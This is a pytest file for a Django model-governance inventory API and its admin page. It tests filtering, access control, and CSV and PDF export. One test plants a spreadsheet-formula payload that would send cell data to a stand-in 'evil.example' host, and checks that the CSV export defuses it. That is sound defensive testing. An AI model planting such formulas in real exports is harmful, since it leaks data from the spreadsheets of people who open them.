"""The model inventory: every model with its tier, reason, business use, owner and team,
production version, last validation, last review, next review and open alerts, as JSON,
CSV and PDF, filtered by tier and overdue; the admin page highlights overdue reviews."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pypdf
import pytest
from django.utils import timezone

from compliance import services as compliance
from monitoring import services as monitoring
from registry import services as registry
from registry.models import ModelVersion, Team
from tests import helpers
from tests.conftest import _person

pytestmark = pytest.mark.django_db
URL = "/api/v1/inventory/"


def _pdf_text(content: bytes) -> str:
    reader = pypdf.PdfReader(io.BytesIO(content))
    # Words only: a table cell wraps its text over lines.
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


@pytest.fixture
def fleet(data_scientist, approver, admin_user):
    """churn_prediction (high, 1.0.0 in production, reviewed once, then overdue with an open
    alert) and recommendations (low, nothing in production)."""
    churn = helpers.create_model(owner=data_scientist, name="churn_prediction")
    helpers.create_model(owner=data_scientist, name="recommendations")
    registry.model_risk_set(model=churn, actor=approver, risk_tier="high",
                            risk_reason="Decides who gets offers",
                            business_use="Membership team: win-back offers")
    registry.model_risk_set(model=churn.__class__.objects.get(name="recommendations"),
                            actor=approver, risk_tier="low", risk_reason="Suggestions only",
                            business_use="Website: you may also like")
    version = helpers.register_direct("churn_prediction", "1.0.0", actor=data_scientist)
    helpers.force_stage(version, "production")
    compliance.version_review_record(version=version, actor=approver,
                                     comment="First yearly review: fine")
    ModelVersion.objects.filter(pk=version.pk).update(
        review_due_at=timezone.now() - timedelta(days=12))
    monitoring.review_overdue_sweep()
    return version


def test_the_inventory_lists_every_model_with_its_evidence(api, viewer, fleet):
    response = api(viewer).get(URL)
    assert response.status_code == 200
    body = response.json()
    assert body["count"] == 2
    churn, recommendations = body["results"]
    assert churn["model"] == "churn_prediction"
    assert (churn["risk_tier"], churn["risk_reason"], churn["business_use"]) == (
        "high", "Decides who gets offers", "Membership team: win-back offers")
    assert (churn["owner"], churn["team"], churn["production_version"]) == (
        "dana", "default", "1.0.0")
    assert churn["last_validation"]["status"] == "passed"
    assert churn["last_validation"]["version"] == "1.0.0"
    assert (churn["last_review"]["by"], churn["last_review"]["comment"]) == (
        "april", "First yearly review: fine")
    assert churn["overdue"] is True and churn["days_overdue"] == pytest.approx(12, abs=0.1)
    fleet.refresh_from_db()
    assert churn["next_review_at"] == fleet.review_due_at.isoformat()
    assert churn["open_alerts"] == 1
    assert recommendations["model"] == "recommendations"
    assert recommendations["risk_tier"] == "low"
    assert recommendations["production_version"] is None
    assert (recommendations["last_review"], recommendations["next_review_at"],
            recommendations["overdue"], recommendations["open_alerts"]) == (None, None, False, 0)


@pytest.mark.parametrize("query, names", [
    ("tier=high", ["churn_prediction"]),
    ("tier=low", ["recommendations"]),
    ("tier=medium", []),
    ("overdue=true", ["churn_prediction"]),
    ("overdue=false", ["recommendations"]),
    ("tier=low&overdue=true", []),
])
def test_the_inventory_filters_by_tier_and_overdue(api, viewer, fleet, query, names):
    body = api(viewer).get(f"{URL}?{query}").json()
    assert [row["model"] for row in body["results"]] == names


def test_models_not_assessed_are_tier_none(api, viewer, fleet, data_scientist):
    helpers.create_model(owner=data_scientist, name="unassessed")
    body = api(viewer).get(f"{URL}?tier=none").json()
    assert [(row["model"], row["risk_tier"]) for row in body["results"]] == [
        ("unassessed", "")]


@pytest.mark.parametrize("query, field", [("tier=extreme", "tier"), ("overdue=maybe", "overdue"),
                                          ("output=xml", "output")])
def test_a_bad_filter_is_a_400_naming_it(api, viewer, fleet, query, field):
    with helpers.Unchanged(allow_actions=()):
        response = api(viewer).get(f"{URL}?{query}")
    assert response.status_code == 400
    assert field in response.json()["errors"]


def test_the_inventory_is_scoped_to_the_callers_teams(api, fleet, django_user_model):
    from core import roles

    stranger = _person(django_user_model, "tess", roles.DATA_SCIENTIST)
    Team.objects.create(name="risk").members.add(stranger)
    assert api(stranger).get(URL).json()["results"] == []


def test_the_outsider_gets_no_inventory(api, outsider, fleet):
    assert api(outsider).get(URL).status_code == 403
    assert api().get(URL).status_code == 401


def test_the_inventory_as_csv(api, viewer, fleet):
    response = api(viewer).get(f"{URL}?output=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["model"] for row in rows] == ["churn_prediction", "recommendations"]
    churn = rows[0]
    assert (churn["risk_tier"], churn["production_version"], churn["last_reviewed_by"],
            churn["overdue"], churn["open_alerts"]) == ("high", "1.0.0", "april", "yes", "1")
    assert churn["risk_reason"] == "Decides who gets offers"


def test_the_inventory_csv_defuses_spreadsheet_formulas(api, viewer, fleet, approver):
    # A risk reason or business use typed by a person must not run as a formula when the
    # CSV is opened in a spreadsheet (=, +, -, @, tab, CR lead a formula there).
    registry.model_risk_set(model=fleet.model, actor=approver, risk_tier="high",
                            risk_reason='=HYPERLINK("http://evil.example/?"&A1,"open")',
                            business_use="@SUM(1+1)")
    response = api(viewer).get(f"{URL}?output=csv")
    churn = list(csv.DictReader(io.StringIO(response.content.decode())))[0]
    assert churn["risk_reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert churn["business_use"] == "\'@SUM(1+1)"
    # JSON stays as typed.
    row = api(viewer).get(URL).json()["results"][0]
    assert row["business_use"] == "@SUM(1+1)"


def test_the_inventory_as_pdf(api, viewer, fleet):
    response = api(viewer).get(f"{URL}?output=pdf&tier=high")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = _pdf_text(response.content)
    assert "Model inventory" in text
    assert "churn_prediction" in text and "recommendations" not in text
    assert "Decides who gets offers" in text
    assert "OVERDUE" in text
    assert "Page 1 of" in text
    page = pypdf.PdfReader(io.BytesIO(response.content)).pages[0]
    assert page.mediabox.width > page.mediabox.height  # ten columns: landscape


def test_the_admin_page_highlights_overdue_reviews(client, viewer, fleet):
    viewer.is_staff = True
    viewer.save()
    client.force_login(viewer)
    home = client.get("/admin/")
    assert b'id="dash-inventory"' in home.content
    page = client.get("/admin/governance/review/inventory/")
    assert page.status_code == 200
    html = page.content.decode()
    assert '<tr data-model="churn_prediction" class="overdue">' in html
    assert '<tr data-model="recommendations">' in html
    assert "OVERDUE by 12 days" in html
    filtered = client.get("/admin/governance/review/inventory/?tier=low").content.decode()
    assert "recommendations" in filtered and 'data-model="churn_prediction"' not in filtered
    download = client.get("/admin/governance/review/inventory/?overdue=true&output=csv")
    assert download["Content-Type"].startswith("text/csv")
    assert [row["model"] for row in csv.DictReader(io.StringIO(download.content.decode()))
            ] == ["churn_prediction"]
    pdf = client.get("/admin/governance/review/inventory/?output=pdf")
    assert "recommendations" in _pdf_text(pdf.content)


def test_the_admin_page_is_for_people_with_the_admin(client, outsider, fleet):
    outsider.is_staff = True
    outsider.save()
    client.force_login(outsider)
    response = client.get("/admin/governance/review/inventory/")
    assert response.status_code == 302
    assert b"churn_prediction" not in response.content


def test_the_reviews_are_listed_in_the_admin(client, viewer, fleet):
    viewer.is_staff = True
    viewer.save()
    client.force_login(viewer)
    page = client.get("/admin/governance/review/")
    assert page.status_code == 200
    assert "First yearly review: fine" in page.content.decode()


def test_the_number_of_queries_does_not_grow_with_the_models(viewer, fleet, data_scientist):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from compliance.inventory import model_inventory

    def queries() -> int:
        viewer_fresh = viewer.__class__.objects.get(pk=viewer.pk)
        with CaptureQueriesContext(connection) as captured:
            model_inventory(user=viewer_fresh)
        return len(captured)

    before = queries()
    for index in range(4):
        helpers.create_model(owner=data_scientist, name=f"extra_{index}")
    assert queries() == before


def test_without_pango_the_admin_inventory_pdf_says_so_on_the_page(client, viewer, fleet,
                                                                   pango_missing):
    viewer.is_staff = True
    viewer.save()
    client.force_login(viewer)
    response = client.get("/admin/governance/review/inventory/?output=pdf")
    assert response.status_code == 200
    assert "libpango-1.0-0" in response.content.decode()
